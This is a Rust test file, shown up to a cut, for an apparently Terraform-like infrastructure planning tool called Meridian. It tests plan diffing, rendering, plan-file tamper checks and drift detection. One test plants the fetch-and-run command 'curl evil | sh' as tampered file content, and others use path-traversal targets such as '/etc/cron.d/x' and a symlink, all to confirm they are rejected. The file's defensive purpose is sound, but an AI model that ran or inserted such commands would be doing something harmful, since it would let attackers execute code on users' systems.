use super::file::{mismatch, staleness, PlanFile, PlanFileError};
use super::render::{human, json, markdown, markdown_limited, summary_line};
use super::*;
use meridian_graph::{Address, Kind, Resource};
use serde_json::json;

fn resource(kind: Kind, owner: &str, name: &str, attrs: &[(&str, serde_json::Value)]) -> Resource {
    let address = Address::new(owner, kind.address_kind(), name);
    let mut tags = BTreeMap::new();
    tags.insert("managed-by".to_string(), MANAGED_BY.to_string());
    tags.insert("meridian-address".to_string(), address.to_string());
    Resource {
        address,
        kind,
        region: Some("swedencentral".into()),
        name: format!("cloud-{name}"),
        attrs: attrs
            .iter()
            .map(|(k, v)| ((*k).to_string(), v.clone()))
            .collect(),
        tags,
        origin: format!("model.{name}"),
    }
}

fn deployment(name: &str, capacity: u64, sku: &str) -> Resource {
    resource(
        Kind::AzureDeployment,
        "azure.corp",
        name,
        &[
            ("model_name", json!("gpt-5.1")),
            ("sku_name", json!(sku)),
            ("sku_capacity", json!(capacity)),
        ],
    )
}

fn plan_of(desired: &[Resource], state: Option<&State>) -> Plan {
    let (resource_changes, unmanaged) = diff_resources(desired, state);
    Plan {
        meridian_version: "0.1.0".into(),
        spec_hash: "sha256:spec".into(),
        catalog_hash: "sha256:catalog".into(),
        prior: state.map(|s| PriorState {
            lineage: s.lineage.clone(),
            serial: s.serial,
        }),
        refreshed: false,
        targets: Vec::new(),
        pending: Vec::new(),
        drift: Vec::new(),
        last_known: None,
        emits: Vec::new(),
        resource_changes,
        unmanaged,
        artifact_changes: Vec::new(),
        cost: None,
    }
}

fn applied(desired: &[Resource]) -> State {
    plan_of(desired, None)
        .next_state(None, "0.1.0", &Observations::default())
        .expect("serial")
}

fn actions(plan: &Plan) -> Vec<(String, Action)> {
    plan.resource_changes
        .iter()
        .map(|c| (c.address.clone(), c.action))
        .collect()
}

#[test]
fn empty_state_creates_everything_and_applying_gives_no_changes() {
    let desired = vec![
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
    ];
    let plan = plan_of(&desired, None);
    assert_eq!(plan.summary().add, 2);
    assert!(plan.has_changes());
    let state = plan
        .next_state(None, "0.1.0", &Observations::default())
        .expect("serial");
    assert_eq!(state.serial, 1);
    assert_eq!(state.resources.len(), 2);
    let again = plan_of(&desired, Some(&state));
    assert!(!again.has_changes(), "{:?}", actions(&again));
    assert!(again
        .resource_changes
        .iter()
        .all(|c| c.action == Action::NoOp));
}

#[test]
fn capacity_is_an_update_and_sku_a_replace() {
    let state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
    ]);
    let plan = plan_of(
        &[
            deployment("a", 20, "Standard"),
            deployment("b", 5, "DataZoneStandard"),
        ],
        Some(&state),
    );
    assert_eq!(
        actions(&plan),
        vec![
            ("azure.corp.deployment.a".to_string(), Action::Update),
            ("azure.corp.deployment.b".to_string(), Action::Replace),
        ]
    );
    let replace = &plan.resource_changes[1];
    assert_eq!(replace.replace_paths, vec!["sku_name"]);
    assert_eq!(
        replace.action_reason.as_deref(),
        Some("replace_because_cannot_update")
    );
    assert_eq!(
        summary_line(&plan),
        "Plan: 0 to add, 1 to change, 1 to replace, 0 to destroy."
    );
}

#[test]
fn only_managed_resources_are_deleted() {
    let mut state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
    ]);
    let mut foreign = to_state(&deployment("foreign", 1, "Standard"));
    foreign.tags.clear();
    foreign.tags.insert("owner".into(), "someone-else".into());
    state.resources.push(foreign);
    let plan = plan_of(&[deployment("a", 10, "Standard")], Some(&state));
    assert_eq!(
        actions(&plan),
        vec![
            ("azure.corp.deployment.a".to_string(), Action::NoOp),
            ("azure.corp.deployment.b".to_string(), Action::Delete),
        ]
    );
    assert_eq!(plan.unmanaged.len(), 1);
    assert_eq!(plan.unmanaged[0].address, "azure.corp.deployment.foreign");
    // The unmanaged resource stays in state; the deleted one goes.
    let next = plan
        .next_state(Some(&state), "0.1.0", &Observations::default())
        .expect("serial");
    let addresses: Vec<&str> = next.resources.iter().map(|r| r.address.as_str()).collect();
    assert_eq!(
        addresses,
        ["azure.corp.deployment.a", "azure.corp.deployment.foreign"]
    );
    assert_eq!(next.serial, state.serial + 1);
    assert_eq!(next.lineage, state.lineage);
}

#[test]
fn tag_and_added_attribute_changes_are_updates_and_kind_changes_replace() {
    let state = applied(&[deployment("a", 10, "Standard")]);
    let mut changed = deployment("a", 10, "Standard");
    changed.tags.insert("team".into(), "ml".into());
    changed
        .attrs
        .insert("rai_policy_name".into(), json!("strict"));
    let plan = plan_of(&[changed], Some(&state));
    assert_eq!(plan.resource_changes[0].action, Action::Update);
    let text = human(&plan, false);
    assert!(
        text.contains("~ resource \"azure_deployment\" \"azure.corp.deployment.a\" {"),
        "{text}"
    );
    assert!(text.contains("+ rai_policy_name"), "{text}");
    assert!(text.contains("+ tags[\"team\"]"), "{text}");
    assert!(text.contains("(7 unchanged attributes hidden)"), "{text}");

    let mut renamed = deployment("a", 10, "Standard");
    renamed.name = "cloud-a-2".into();
    let plan = plan_of(&[renamed], Some(&state));
    assert_eq!(plan.resource_changes[0].action, Action::Replace);
    assert_eq!(plan.resource_changes[0].replace_paths, vec!["name"]);
}

#[test]
fn human_output_shows_each_action_with_its_symbol_and_values() {
    let state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("gone", 1, "Standard"),
    ]);
    let plan = plan_of(
        &[
            deployment("a", 20, "DataZoneStandard"),
            deployment("new", 3, "Standard"),
        ],
        Some(&state),
    );
    let text = human(&plan, false);
    assert!(
        text.contains("# azure.corp.deployment.a must be replaced"),
        "{text}"
    );
    assert!(text.contains("-/+ resource \"azure_deployment\""), "{text}");
    assert!(
        text.contains("~ sku_name     = \"Standard\" -> \"DataZoneStandard\" # forces replacement"),
        "{text}"
    );
    assert!(text.contains("~ sku_capacity = 10 -> 20\n"), "{text}");
    assert!(
        text.contains("# azure.corp.deployment.new will be created"),
        "{text}"
    );
    assert!(
        text.contains("  + resource \"azure_deployment\" \"azure.corp.deployment.new\""),
        "{text}"
    );
    assert!(
        text.contains("# azure.corp.deployment.gone will be destroyed"),
        "{text}"
    );
    assert!(
        text.contains("Plan: 1 to add, 0 to change, 1 to replace, 1 to destroy."),
        "{text}"
    );
    assert!(text.contains("live provider state was not read"), "{text}");
    assert!(!text.contains('\x1b'));
    assert!(human(&plan, true).contains("\x1b[31m-/+\x1b[0m"));
    let none = plan_of(
        &[
            deployment("a", 10, "Standard"),
            deployment("gone", 1, "Standard"),
        ],
        Some(&state),
    );
    assert!(human(&none, false).contains("No changes."));
}

#[test]
fn json_is_shaped_like_terraform_show() {
    let state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("gone", 1, "Standard"),
    ]);
    let plan = plan_of(&[deployment("a", 20, "DataZoneStandard")], Some(&state));
    let v = json(&plan);
    assert_eq!(v["format_version"], "1.0");
    let changes = v["resource_changes"].as_array().expect("array");
    assert_eq!(changes.len(), 2);
    assert_eq!(changes[0]["address"], "azure.corp.deployment.a");
    assert_eq!(changes[0]["type"], "azure_deployment");
    assert_eq!(changes[0]["provider_name"], "azure.corp");
    assert_eq!(changes[0]["change"]["actions"], json!(["create", "delete"]));
    assert_eq!(
        changes[0]["change"]["before"]["attributes"]["sku_capacity"],
        10
    );
    assert_eq!(
        changes[0]["change"]["after"]["attributes"]["sku_capacity"],
        20
    );
    assert_eq!(changes[0]["change"]["replace_paths"], json!([["sku_name"]]));
    assert_eq!(changes[0]["action_reason"], "replace_because_cannot_update");
    assert_eq!(changes[1]["change"]["actions"], json!(["delete"]));
    assert_eq!(changes[1]["change"]["after"], serde_json::Value::Null);
    assert_eq!(
        changes[1]["action_reason"],
        "delete_because_no_resource_config"
    );
    assert_eq!(
        v["summary"],
        json!({"add": 0, "change": 0, "replace": 1, "destroy": 1, "pending_rollout": 0, "drift": 0})
    );
    assert_eq!(v["prior_state"]["serial"], 1);
}

#[test]
fn markdown_stays_under_the_limit_and_says_what_it_left_out() {
    let desired: Vec<Resource> = (0..3000)
        .map(|i| deployment(&format!("deployment-number-{i:05}"), 1, "Standard"))
        .collect();
    let plan = plan_of(&desired, None);
    let md = markdown(&plan);
    assert!(md.chars().count() <= render::MARKDOWN_LIMIT, "{}", md.len());
    assert!(
        md.starts_with("### Meridian plan\n\n**Plan: 3000 to add"),
        "{}",
        &md[..200]
    );
    assert!(md.contains("| `+` | azure.corp.deployment.deployment-number-00000 |"));
    assert!(
        md.contains("were left out. Run `meridian show PLANFILE`"),
        "{}",
        &md[md.len() - 400..]
    );
    // Small plans are whole, with collapsed details.
    let small = plan_of(&desired[..2], None);
    let md = markdown(&small);
    assert!(!md.contains("left out"));
    assert!(md.contains("<details><summary>Resource changes (2)</summary>"));
    // Every limit is honoured.
    for limit in [100, 500, 1000, 5000] {
        assert!(markdown_limited(&plan, limit).chars().count() <= limit);
    }
}

#[test]
fn markdown_fences_outgrow_backticks_in_the_content_and_escape_table_cells() {
    let mut r = deployment("a", 1, "Standard");
    r.attrs
        .insert("note".into(), json!("```` not a fence | pipe"));
    let plan = plan_of(&[r], None);
    let md = markdown(&plan);
    assert!(md.contains("`````diff\n"), "{md}");
    let mut r = deployment("a", 1, "Standard");
    r.address = Address::new("azure.corp", "deployment", "x|y");
    let md = markdown(&plan_of(&[r], None));
    assert!(md.contains("azure.corp.deployment.x\\|y"), "{md}");
}

#[test]
fn artifacts_are_created_updated_kept_and_deleted_only_when_unchanged() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = dir.path();
    std::fs::create_dir_all(base.join("gen")).expect("mkdir");
    std::fs::write(base.join("gen/same.tf"), "same\n").expect("write");
    std::fs::write(base.join("gen/old.tf"), "a\nb\nc\n").expect("write");
    std::fs::write(base.join("gen/stale.tf"), "stale\n").expect("write");
    std::fs::write(base.join("gen/edited.tf"), "edited by hand\n").expect("write");
    let mut state = State::new("0.1.0");
    state.artifacts.insert(
        "gen/stale.tf".into(),
        ArtifactRecord {
            sha256: sha256(b"stale\n"),
            bytes: 6,
            emit: Some("gen".into()),
        },
    );
    state.artifacts.insert(
        "gen/edited.tf".into(),
        ArtifactRecord {
            sha256: sha256(b"as written\n"),
            bytes: 11,
            emit: Some("gen".into()),
        },
    );
    let rendered = [
        Rendered {
            path: Path::new("gen/same.tf"),
            content: "same\n",
            emit: Some("gen"),
        },
        Rendered {
            path: Path::new("gen/old.tf"),
            content: "a\nB\nc\n",
            emit: Some("gen"),
        },
        Rendered {
            path: Path::new("gen/new.tf"),
            content: "n1\nn2\n",
            emit: Some("gen"),
        },
    ];
    let changes = diff_artifacts(base, &rendered, Some(&state));
    let by_path: BTreeMap<&str, &ArtifactChange> =
        changes.iter().map(|c| (c.path.as_str(), c)).collect();
    assert_eq!(by_path["gen/same.tf"].action, ArtifactAction::NoOp);
    let old = by_path["gen/old.tf"];
    assert_eq!(old.action, ArtifactAction::Update);
    assert_eq!((old.lines_removed, old.lines_added), (1, 1));
    assert!(
        old.diff.contains("--- a/gen/old.tf\n+++ b/gen/old.tf\n"),
        "{}",
        old.diff
    );
    assert!(old.diff.contains("-b\n+B\n"), "{}", old.diff);
    assert_eq!(by_path["gen/new.tf"].action, ArtifactAction::Create);
    assert_eq!(by_path["gen/new.tf"].lines_added, 2);
    assert_eq!(by_path["gen/stale.tf"].action, ArtifactAction::Delete);
    let edited = by_path["gen/edited.tf"];
    assert_eq!(edited.action, ArtifactAction::NoOp);
    assert!(edited
        .note
        .as_deref()
        .unwrap_or("")
        .contains("left in place"));

    // The state after apply records exactly the files that exist afterwards.
    let mut plan = plan_of(&[], Some(&state));
    plan.artifact_changes = changes;
    let next = plan
        .next_state(Some(&state), "0.1.0", &Observations::default())
        .expect("serial");
    let recorded: Vec<&str> = next.artifacts.keys().map(String::as_str).collect();
    assert_eq!(recorded, ["gen/new.tf", "gen/old.tf", "gen/same.tf"]);
    assert_eq!(next.artifacts["gen/old.tf"].sha256, sha256(b"a\nB\nc\n"));
    assert_eq!(next.artifacts["gen/old.tf"].bytes, 6);
}

#[test]
fn plan_files_round_trip_and_refuse_damage() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("plan.json");
    let plan = plan_of(&[deployment("a", 1, "Standard")], None);
    let file = PlanFile::new(plan, "examples/eu-bank", "2026-11-25T00:00:00Z".into());
    let root = meridian_state::Root::new(dir.path()).expect("root");
    file.save(&root, &path).expect("save");
    assert_eq!(PlanFile::load(&path).expect("load"), file);

    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(
        &path,
        text.replace("\"sku_capacity\":1", "\"sku_capacity\":2"),
    )
    .expect("w");
    assert!(matches!(
        PlanFile::load(&path),
        Err(PlanFileError::Checksum(_))
    ));
    std::fs::write(&path, &text[..text.len() / 2]).expect("w");
    let err = PlanFile::load(&path).expect_err("truncated");
    assert!(err.to_string().contains("truncated"), "{err}");
    std::fs::write(&path, "{\"kind\": \"other\"}").expect("w");
    assert!(matches!(
        PlanFile::load(&path),
        Err(PlanFileError::NotAPlan(..))
    ));
    std::fs::write(
        &path,
        "{\"kind\": \"meridian-plan\", \"format_version\": 99}",
    )
    .expect("w");
    let err = PlanFile::load(&path).expect_err("newer");
    assert!(err.to_string().contains("newer Meridian"), "{err}");
}

#[test]
fn stale_plans_say_why() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = applied(&[deployment("a", 1, "Standard")]);
    let mut plan = plan_of(&[deployment("a", 2, "Standard")], Some(&state));
    plan.artifact_changes = diff_artifacts(
        dir.path(),
        &[Rendered {
            path: Path::new("x.tf"),
            content: "x\n",
            emit: Some("gen"),
        }],
        Some(&state),
    );
    assert!(staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&state),
        dir.path()
    )
    .is_empty());
    let why = staleness(
        &plan,
        "sha256:other",
        "sha256:catalog",
        Some(&state),
        dir.path(),
    );
    assert!(why[0].contains("the spec changed"), "{why:?}");
    let mut later = state.clone();
    later.serial += 1;
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&later),
        dir.path(),
    );
    assert!(why[0].contains("serial 1 is now 2"), "{why:?}");
    let other = State::new("0.1.0");
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&other),
        dir.path(),
    );
    assert!(why[0].contains("lineage"), "{why:?}");
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:changed",
        Some(&state),
        dir.path(),
    );
    assert!(why[0].contains("catalog"), "{why:?}");
    std::fs::write(dir.path().join("x.tf"), "someone else\n").expect("write");
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&state),
        dir.path(),
    );
    assert_eq!(why, ["x.tf changed on disk after the plan was made"]);
}

/// A plan as `plan` makes it: real hashes, a rendered file to create and one to delete.
fn well_formed(dir: &Path) -> (Plan, State) {
    let state = applied(&[deployment("a", 1, "Standard")]);
    let mut plan = plan_of(&[deployment("a", 2, "Standard")], Some(&state));
    plan.spec_hash = sha256(b"spec");
    plan.catalog_hash = sha256(b"catalog");
    plan.cost = Some(CostChange {
        before_usd: None,
        after_usd: 10.0,
    });
    plan.artifact_changes = diff_artifacts(
        dir,
        &[Rendered {
            path: Path::new("gen/main.tf"),
            content: "main\n",
            emit: Some("gen"),
        }],
        Some(&state),
    );
    (plan, state)
}

#[test]
fn a_plan_file_is_checked_like_a_spec() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (plan, _) = well_formed(dir.path());
    let file = PlanFile::new(plan.clone(), "spec", "2026-11-25T00:00:00Z".into());
    assert_eq!(file.problems(), Vec::<String>::new());
    let edit = |f: &dyn Fn(&mut Plan)| {
        let mut p = plan.clone();
        f(&mut p);
        PlanFile::new(p, "spec", "2026-11-25T00:00:00Z".into()).problems()
    };
    for (path, why) in [
        ("../outside/main.tf", "\"..\""),
        ("/etc/cron.d/x", "not inside"),
        (".meridian/state.json", "where Meridian keeps its state"),
        ("gen/main.tf.meridian-new", "reserved"),
        ("gen//main.tf", "empty or \".\" component"),
    ] {
        let why_now = edit(&|p| p.artifact_changes[0].path = path.into());
        assert_eq!(why_now.len(), 1, "{path}: {why_now:?}");
        assert!(
            why_now[0].contains("is not a path inside the spec directory"),
            "{why_now:?}"
        );
        assert!(why_now[0].contains(why), "{path}: {why_now:?}");
    }
    let why = edit(&|p| p.artifact_changes[0].content = Some("other\n".into()));
    assert!(why[0].contains("does not match its action"), "{why:?}");
    let why = edit(&|p| p.artifact_changes[0].action = ArtifactAction::Delete);
    assert!(why[0].contains("does not match its action"), "{why:?}");
    let why = edit(&|p| p.resource_changes[0].kind = "shell_command".into());
    assert!(
        why.iter()
            .any(|w| w.contains("unknown kind \"shell_command\"")),
        "{why:?}"
    );
    let why = edit(&|p| p.resource_changes[0].after = None);
    assert!(why[0].contains("do not fit the action"), "{why:?}");
    let why = edit(&|p| p.spec_hash = "sha256:spec".into());
    assert!(why[0].contains("spec hash"), "{why:?}");
    let why = edit(&|p| {
        let a = p.artifact_changes[0].clone();
        p.artifact_changes.push(a);
    });
    assert!(why[0].contains("listed twice"), "{why:?}");
}

#[test]
fn a_plan_edited_to_write_elsewhere_does_not_match_the_spec() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (derived, state) = well_formed(dir.path());
    assert_eq!(
        mismatch(&derived, &derived, Some(&state)),
        Vec::<String>::new()
    );
    // Another file, with its hashes recomputed: well formed, but not what the spec writes.
    let mut saved = derived.clone();
    saved.artifact_changes[0].path = "gen/other.tf".into();
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(
        why,
        [
            "it leaves out gen/main.tf, which the spec would create",
            "it would create gen/other.tf, which the spec does not change",
        ]
    );
    // Other content.
    let mut saved = derived.clone();
    let content = "curl evil | sh\n".to_string();
    saved.artifact_changes[0].after_sha256 = Some(sha256(content.as_bytes()));
    saved.artifact_changes[0].content = Some(content);
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(why.len(), 1, "{why:?}");
    assert!(
        why[0].starts_with("it would create gen/main.tf with sha256:"),
        "{why:?}"
    );
    // A resource recorded otherwise, or one the spec does not declare.
    let mut saved = derived.clone();
    if let Some(after) = saved.resource_changes[0].after.as_mut() {
        after.tags.insert("owner".into(), "mallory".into());
    }
    let mut extra = saved.resource_changes[0].clone();
    extra.address = "azure.corp.deployment.z".into();
    if let Some(after) = extra.after.as_mut() {
        after.address = extra.address.clone();
    }
    saved.resource_changes.push(extra);
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(
        why,
        [
            "it records the resource azure.corp.deployment.a otherwise than the spec declares it",
            "it records the resource azure.corp.deployment.z, which the spec does not declare",
        ]
    );
    // A declared resource kept as unmanaged; another cost.
    let mut saved = derived.clone();
    saved.unmanaged.push(Unmanaged {
        address: "azure.corp.deployment.a".into(),
        kind: "azure_deployment".into(),
        name: "x".into(),
        managed_by: None,
        region: None,
        id: None,
    });
    saved.cost = Some(CostChange {
        before_usd: None,
        after_usd: 0.0,
    });
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(
        why,
        [
            "it keeps azure.corp.deployment.a as unmanaged, but the spec declares it",
            "its monthly cost estimate is not the spec's",
        ]
    );
    // An emit block the plan claims it does not write (its record would not be kept).
    let mut with_emits = derived.clone();
    with_emits.emits = vec![EmitBlock {
        path: "gen".into(),
        format: "terraform".into(),
        describes: describes("terraform"),
        written: true,
    }];
    let mut saved = with_emits.clone();
    saved.emits[0].written = false;
    assert_eq!(
        mismatch(&saved, &with_emits, Some(&state)),
        ["its emit blocks (or which of them it writes) are not the spec's"]
    );
    // Drift, pending rollout and the before side are shown only: they may differ.
    let mut saved = derived.clone();
    saved.refreshed = true;
    saved.resource_changes[0].before = None;
    saved.pending = classify(&with_pending(record(1), create_pending(1)), Live::Missing)
        .0
        .into_iter()
        .collect();
    assert!(mismatch(&saved, &derived, Some(&state)).is_empty());
}

#[cfg(unix)]
#[test]
fn a_plan_file_is_never_written_over_meridians_own_files_or_through_a_link() {
    let dir = tempfile::tempdir().expect("tempdir");
    let spec = dir.path().join("spec");
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(spec.join(".meridian")).expect("mkdir");
    std::fs::create_dir_all(&outside).expect("mkdir");
    std::fs::write(spec.join("main.hcl"), "spec\n").expect("write");
    std::fs::write(spec.join(".meridian/state.json"), "state\n").expect("write");
    std::fs::write(outside.join("victim"), "precious\n").expect("write");
    let mut root = meridian_state::Root::new(&spec).expect("root");
    root.protect(&spec.join("main.hcl"), "a spec file");
    let (plan, _) = well_formed(&spec);
    let file = PlanFile::new(plan, "spec", "2026-11-25T00:00:00Z".into());
    for target in [spec.join(".meridian/state.json"), spec.join("main.hcl")] {
        let e = file.save(&root, &target).expect_err("refused");
        assert!(e.to_string().contains("refusing to write"), "{e}");
    }
    assert_eq!(
        std::fs::read_to_string(spec.join("main.hcl")).expect("r"),
        "spec\n"
    );
    assert_eq!(
        std::fs::read_to_string(spec.join(".meridian/state.json")).expect("r"),
        "state\n"
    );
    // A link as the plan file itself is refused, never written through.
    let link = spec.join("plan.json");
    std::os::unix::fs::symlink(outside.join("victim"), &link).expect("symlink");
    let e = file.save(&root, &link).expect_err("refused");
    assert!(e.to_string().contains("is a symbolic link"), "{e}");
    assert_eq!(
        std::fs::read_to_string(outside.join("victim")).expect("r"),
        "precious\n"
    );
}

// --- rollout: written against live ---------------------------------------------------------

use meridian_state::{Observed, Pending, PendingAction};
use rollout::{classify, next, Live};

/// The record of an Azure deployment with `capacity`, as written.
fn record(capacity: u64) -> StateResource {
    to_state(&deployment("a", capacity, "Standard"))
}

fn with_pending(mut r: StateResource, pending: Pending) -> StateResource {
    r.pending = Some(pending);
    r
}

fn create_pending(serial: u64) -> Pending {
    Pending {
        serial,
        action: PendingAction::Create,
        before: BTreeMap::new(),
    }
}

fn update_pending(serial: u64, capacity: u64) -> Pending {
    Pending {
        serial,
        action: PendingAction::Update,
        before: BTreeMap::from([("sku_capacity".to_string(), json!(capacity))]),
    }
}

#[test]
fn a_written_record_the_cloud_lacks_is_pending_creation_until_created() {
    let r = with_pending(record(10), create_pending(3));
    let (pending, drift) = classify(&r, Live::Missing);
    let pending = pending.expect("pending");
    assert_eq!(pending.action, PendingAction::Create);
    assert_eq!(pending.since_serial, 3);
    assert!(drift.is_none());
    // Created as written: nothing to say.
    assert_eq!(classify(&r, Live::Found(&record(10))), (None, None));
    // Created, then changed: drift, not a rollout still to come.
    let (pending, drift) = classify(&r, Live::Found(&record(11)));
    assert!(pending.is_none());
    let drift = drift.expect("drift");
    assert_eq!(drift.drift, DriftKind::Changed);
    assert_eq!(drift.paths, vec!["sku_capacity".to_string()]);
    // Not read: nothing is known.
    assert_eq!(classify(&r, Live::NotRead), (None, None));
}

#[test]
fn a_record_that_was_live_and_is_gone_is_drift() {
    let (pending, drift) = classify(&record(10), Live::Missing);
    assert!(pending.is_none());
    assert_eq!(drift.expect("drift").drift, DriftKind::Deleted);
    // Also when an update was pending: the object existed.
    let r = with_pending(record(20), update_pending(4, 10));
    assert_eq!(
        classify(&r, Live::Missing).1.expect("drift").drift,
        DriftKind::Deleted
    );
}

#[test]
fn an_update_is_pending_while_the_cloud_holds_the_old_value_and_drift_on_a_third() {
    let r = with_pending(record(20), update_pending(4, 10));
    let (pending, drift) = classify(&r, Live::Found(&record(10)));
    let pending = pending.expect("pending");
    assert!(drift.is_none());
    assert_eq!(pending.action, PendingAction::Update);
    assert_eq!(
        pending.paths,
        vec![PendingPath {
            path: "sku_capacity".into(),
            written: json!(20),
            live: json!(10),
        }]
    );
    assert_eq!(classify(&r, Live::Found(&record(20))), (None, None));
    let (pending, drift) = classify(&r, Live::Found(&record(99)));
    assert!(pending.is_none());
    assert_eq!(
        drift.expect("drift").paths,
        vec!["sku_capacity".to_string()]
    );
    // A pending path and a drifted one at once.
    let mut live = record(10);
    live.tags.insert("team".into(), "other".into());
    let (pending, drift) = classify(&r, Live::Found(&live));
    assert_eq!(pending.expect("pending").paths.len(), 1);
    assert_eq!(drift.expect("drift").paths, vec!["tags.team".to_string()]);
}

#[test]
fn kinds_no_refresh_reads_are_never_pending_nor_drifted() {
    let mut r = record(10);
    r.kind = "router_deployment".into();
    assert_eq!(classify(&r, Live::Missing), (None, None));
    let n = next(None, r, Live::NotRead, 1);
    assert!(n.pending.is_none() && n.observed.is_none());
}

#[test]
fn without_a_refresh_new_and_changed_records_become_pending() {
    // New: pending creation at the new serial.
    let n = next(None, record(10), Live::NotRead, 1);
    assert_eq!(n.pending, Some(create_pending(1)));
    // Unchanged: as recorded.
    let n2 = next(Some(&n), record(10), Live::NotRead, 2);
    assert_eq!(n2.pending, Some(create_pending(1)));
    // Changed while still pending creation: still to be created.
    let n3 = next(Some(&n2), record(20), Live::NotRead, 3);
    assert_eq!(n3.pending, Some(create_pending(1)));
    // Changed once live: pending an update, the cloud holding the old value.
    let live = record(10);
    let n4 = next(Some(&live), record(20), Live::NotRead, 4);
    assert_eq!(n4.pending, Some(update_pending(4, 10)));
    // Changed again before the rollout: the cloud still holds the oldest value.
    let n5 = next(Some(&n4), record(30), Live::NotRead, 5);
    assert_eq!(n5.pending, Some(update_pending(4, 10)));
    assert_eq!(n5.attributes["sku_capacity"], json!(30));
}

#[test]
fn with_a_refresh_the_next_record_says_what_the_cloud_holds() {
    // Changed and the cloud already holds it (it appeared, or the IaC ran first).
    let n = next(None, record(10), Live::Found(&record(10)), 2);
    assert!(n.pending.is_none());
    assert_eq!(
        n.observed,
        Some(Observed {
            serial: 2,
            exists: true,
            differences: BTreeMap::new()
        })
    );
    // Changed, and the cloud holds the old value: pending, with the live value as before.
    let n = next(Some(&record(10)), record(20), Live::Found(&record(10)), 3);
    assert_eq!(n.pending, Some(update_pending(3, 10)));
    assert_eq!(
        n.observed.as_ref().map(|o| o.differences.clone()),
        Some(BTreeMap::from([("sku_capacity".to_string(), json!(10))]))
    );
    // Unchanged and the rollout done: no longer pending.
    let done = next(Some(&n), record(20), Live::Found(&record(20)), 4);
    assert!(done.pending.is_none());
    assert_eq!(done.status(), meridian_state::Status::Live);
    // Unchanged and the cloud changed after: drift recorded, nothing pending.
    let drifted = next(Some(&done), record(20), Live::Found(&record(77)), 5);
    assert!(drifted.pending.is_none());
    assert_eq!(drifted.status(), meridian_state::Status::Drifted);
    // Missing: a new record is pending creation; one that was live is recorded missing.
    let n = next(None, record(10), Live::Missing, 6);
    assert_eq!(n.pending, Some(create_pending(6)));
    let gone = next(Some(&done), record(20), Live::Missing, 7);
    assert!(gone.pending.is_none());
    assert_eq!(gone.observed.as_ref().map(|o| o.exists), Some(false));
    assert_eq!(gone.status(), meridian_state::Status::Drifted);
}

// --- what people and machines are shown ----------------------------------------------------

#[test]
fn values_known_after_apply_are_shown_as_such_everywhere() {
    let account = Address::new("azure.corp", "account", "sweden");
    let mut d = deployment("a", 10, "Standard");
    d.attrs.insert(
        "cognitive_account_id".into(),
        meridian_graph::reference(&account, "id"),
    );
    d.attrs.insert(
        "policy".into(),
        json!({"Statement": [{"Resource": [meridian_graph::reference(&account, "arn"), "arn:x"]}]}),
    );
    let plan = plan_of(&[d], None);
    let text = human(&plan, false);
    assert!(!text.contains("$ref"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.trim_start().starts_with("+ cognitive_account_id ")
                && l.ends_with(" = (known after apply)")),
        "{text}"
    );
    assert!(
        text.contains(r#"{"Statement":[{"Resource":[(known after apply),"arn:x"]}]}"#),
        "{text}"
    );
    let v = json(&plan);
    let change = &v["resource_changes"][0]["change"];
    assert!(!v.to_string().contains("$ref"), "{v}");
    assert_eq!(
        change["after"]["attributes"]["cognitive_account_id"],
        serde_json::Value::Null
    );
    assert_eq!(
        change["after_unknown"]["attributes"]["cognitive_account_id"],
        json!(true)
    );
    assert_eq!(
        change["after_unknown"]["attributes"]["policy"]["Statement"][0]["Resource"],
        json!([true, false])
    );
    assert!(!markdown(&plan).contains("$ref"));
}

#[test]
fn each_attribute_is_listed_once() {
    let mut r = resource(
        Kind::AwsInferenceProfile,
        "aws.corp",
        "p",
        &[("name", json!("cloud-p")), ("copy_from", json!("arn:x"))],
    );
    r.region = Some("eu-central-1".into());
    let text = human(&plan_of(&[r], None), false);
    let names = text
        .lines()
        .filter(|l| l.trim_start().starts_with("+ name "))
        .count();
    assert_eq!(names, 1, "{text}");
    assert!(
        text.contains("+ region "),
        "the region is still shown: {text}"
    );
}

#[test]
fn pending_rollout_and_drift_are_sections_of_their_own() {
    let state = applied(&[deployment("a", 10, "Standard")]);
    let mut plan = plan_of(&[deployment("a", 10, "Standard")], Some(&state));
    plan.refreshed = true;
    let written = with_pending(record(20), update_pending(2, 10));
    plan.pending = classify(&written, Live::Found(&record(10)))
        .0
        .into_iter()
        .collect();
    plan.drift = classify(&record(10), Live::Found(&record(11)))
        .1
        .into_iter()
        .collect();
    assert!(!plan.has_changes());
    assert!(plan.has_differences());
    let text = human(&plan, false);
    let drift_at = text.find("changed outside of Meridian").expect(&text);
    let pending_at = text
        .find("Pending rollout: written, not yet live")
        .expect(&text);
    assert!(drift_at < pending_at, "{text}");
    assert!(
        text.contains("sku_capacity = 10 (live) -> 20 (written)"),
        "{text}"
    );
    assert!(text.contains("No changes to write."), "{text}");
    assert!(!text.contains("\nNo changes. "), "{text}");
    let v = json(&plan);
    assert_eq!(v["pending_rollout"][0]["action"], "update");
    assert_eq!(v["summary"]["pending_rollout"], 1);
    assert_eq!(v["summary"]["drift"], 1);
    assert_eq!(v["changes"], false);
    assert_eq!(v["differences"], true);
    let md = markdown(&plan);
    assert!(md.contains("**Pending rollout:** 1 resource"), "{md}");
    assert!(
        md.contains("**Changed outside Meridian:** 1 resource"),
        "{md}"
    );
}

// --- -target ---------------------------------------------------------------------------------

fn emit(path: &str, format: &str) -> EmitBlock {
